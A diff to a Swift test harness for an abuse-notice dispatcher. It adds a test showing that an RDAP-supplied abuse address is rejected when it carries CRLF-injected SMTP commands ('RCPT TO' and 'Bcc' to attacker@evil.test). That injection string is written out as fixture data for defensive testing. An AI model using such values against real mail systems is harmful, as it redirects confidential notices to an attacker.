@@ -32,6 +32,11 @@ final class DispatchHarness {
         "cdn.example.net": ["hosting.abuse_email": .string("abuse@hoster-a.test"), "hosting.org": .string("Hoster A"), "hosting.country": .string("NL")],
         "other.example.org": ["hosting.abuse_email": .string("abuse@hoster-b.test"), "hosting.org": .string("Hoster B"), "hosting.country": .string("NL")],
         "nowhere.example": ["hosting.country": .string("NL")],
+        // What a hostile RDAP answer put in the facts before addresses were checked.
+        "injected.example": [
+            "hosting.abuse_email": .string("abuse@hoster-c.test>\r\nRCPT TO:<attacker@evil.test>\r\nBcc: attacker@evil.test"),
+            "hosting.org": .string("Hoster C"), "hosting.country": .string("NL"),
+        ],
     ]
 
     init(
@@ -327,6 +332,21 @@ final class DispatchHarness {
         #expect(pass.noticesCreated == 1)
         let notice = try #require(try harness.store.notices(status: .failed, limit: 1).first)
         #expect(notice.lastError == "nobody to send to: no address for registrar")
+        #expect(notice.escalatedTo == "analysts")
+        #expect(harness.transport.attemptedMessages.isEmpty)
+    }
+
+    @Test func anAddressCarryingSMTPCommandsNeverReachesTheTransport() throws {
+        let harness = try DispatchHarness()
+        try harness.ingest([#"{"url": "https://injected.example/x.jpg", "classification": "A1"}"#])
+        harness.advance(hours: 1)
+        let pass = try harness.worker().runUntilIdle()
+        #expect(pass.noticesCreated == 1)
+        let notice = try #require(try harness.store.notices(status: .failed, limit: 1).first)
+        #expect(
+            notice.lastError
+                == #"refused address "abuse@hoster-c.test>\r\nRCPT TO:<attacker@evil.test>\r\nBcc: attacker@evil.test" for "Hoster C": not a plain e-mail address"#
+        )
         #expect(notice.escalatedTo == "analysts")
         #expect(harness.transport.attemptedMessages.isEmpty)
     }
